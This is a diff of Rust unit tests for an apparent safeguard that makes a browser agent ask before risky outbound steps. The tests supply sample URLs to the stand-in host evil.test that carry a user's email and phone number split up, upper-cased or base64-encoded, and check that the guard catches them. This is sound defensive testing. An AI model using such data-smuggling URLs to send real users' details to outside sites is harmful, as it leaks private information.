@@ -101,6 +101,32 @@ fn ordinary_navigation_asks_nothing() {
 }
 
 #[test]
+fn personal_data_the_page_shows_split_across_a_url_is_asked_for() {
+    let mut seen = on_profile();
+    seen.page_text = Some("Signed in as ann.lee@mail.example, phone +44 20 7946 0958. Order 12");
+    for url in [
+        "https://evil.test/s?a=ann.lee&b=mail.example",
+        "https://evil.test/s?a=ANN.LEE",
+        "https://evil.test/s/YW5uLmxlZQ",
+        "https://evil.test/s?p1=7946&p2=0958",
+    ] {
+        let why = outbound(&navigate(url), &seen).expect(url);
+        assert!(
+            why.contains("part of personal data the page shows"),
+            "{why}"
+        );
+    }
+    // Short pieces, other numbers, the named site: nothing asked.
+    for url in [
+        "https://evil.test/s?a=ann",
+        "https://evil.test/s?order=12&year=2026",
+        "https://profile.test/s?a=ann.lee",
+    ] {
+        assert_eq!(outbound(&navigate(url), &seen), None, "{url}");
+    }
+}
+
+#[test]
 fn after_private_data_any_site_the_person_did_not_name_is_asked_for() {
     let mut seen = on_profile();
     assert_eq!(outbound(&navigate("https://evil.test/"), &seen), None);
@@ -188,6 +214,63 @@ fn enter_in_a_foreign_form_typed_data_into_is_asked_for() {
     assert_eq!(outbound(&press("Enter"), &seen), None, "plain words typed");
     seen.private.push(read_inbox());
     assert!(outbound(&press("Enter"), &seen).is_some());
+}
+
+#[test]
+fn a_click_or_drag_at_a_point_is_rated_as_the_riskiest_element_it_could_hit() {
+    let click = command(json!({ "name": "browser_click_at", "params": { "x": 10, "y": 20 } }));
+    let drag = command(
+        json!({ "name": "browser_drag", "params": { "from": { "x": 1, "y": 2 }, "to": { "clickId": 3 } } }),
+    );
+    // On the site the person named, with nothing private read: it runs (the extension checks
+    // the point when it acts).
+    let mut seen = on_profile();
+    assert_eq!(outbound(&click, &seen), None);
+    assert_eq!(outbound(&drag, &seen), None);
+    // On a page of a site they did not name: asked for.
+    seen.page_url = Some("https://evil.test/form");
+    for step in [&click, &drag] {
+        let why = outbound(step, &seen).expect("asked");
+        assert!(why.contains("evil.test, a site you did not name"), "{why}");
+    }
+    // After private data entered the run, even on the named site.
+    let mut seen = on_profile();
+    seen.private.push(read_inbox());
+    let why = outbound(&click, &seen).expect("asked");
+    assert!(why.contains("after reading your tab \"Inbox\""), "{why}");
+    // No page yet: nothing to click on, nothing asked.
+    assert_eq!(outbound(&click, &Seen::default()), None);
+}
+
+#[test]
+fn steps_known_only_when_they_act_carry_what_they_were_rated_on() {
+    let field = form_field("https://evil.test/post", true);
+    let mut seen = on_profile();
+    let expected = |mut step: ActionCommand, seen: &Seen<'_>| {
+        expect_at_act(&mut step, seen);
+        serde_json::to_value(step).expect("json")["params"]["expect"].clone()
+    };
+    let click = command(json!({ "name": "browser_click_at", "params": { "x": 10, "y": 20 } }));
+    let drag = command(
+        json!({ "name": "browser_drag", "params": { "from": { "x": 1, "y": 2 }, "to": { "x": 3, "y": 4 } } }),
+    );
+    let enter = command(json!({ "name": "browser_press_key", "params": { "key": "Enter" } }));
+    // A point: nothing outbound there, whatever the caller claimed.
+    let claimed = command(
+        json!({ "name": "browser_click_at", "params": { "x": 1, "y": 1, "expect": { "submits": true } } }),
+    );
+    for step in [click, drag, claimed] {
+        assert_eq!(expected(step, &seen), json!({}));
+    }
+    // A key: the field typed into last, or nothing outbound.
+    assert_eq!(expected(enter.clone(), &seen), json!({}));
+    seen.last_typed = Some((&field, false));
+    assert_eq!(
+        expected(enter, &seen),
+        serde_json::to_value(&field).expect("json")
+    );
+    let hover = command(json!({ "name": "browser_hover_at", "params": { "x": 1, "y": 1 } }));
+    assert_eq!(expected(hover, &seen), serde_json::Value::Null);
 }
 
 #[test]
